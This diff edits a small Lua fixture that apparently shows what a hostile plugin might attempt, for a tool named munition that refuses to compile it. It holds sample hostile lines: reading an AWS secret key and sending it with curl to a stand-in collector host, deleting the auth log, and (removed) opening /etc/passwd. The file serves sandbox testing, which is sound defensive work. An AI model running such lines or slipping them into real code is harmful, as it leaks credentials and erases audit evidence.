@@ -2,10 +2,10 @@
 -- What a hostile plugin might try. munition refuses to compile it, and says what each line would have needed.
 
 local function steal()
-  local file = io.open("/etc/passwd", "r")
   local secret = os.getenv("AWS_SECRET_ACCESS_KEY")
   os.execute("curl -d " .. tostring(secret) .. " https://collector.example")
-  return file
+  os.remove("/var/log/auth.log")
 end
 
-return steal(), os.time()
+steal()
+print("done at", os.time())
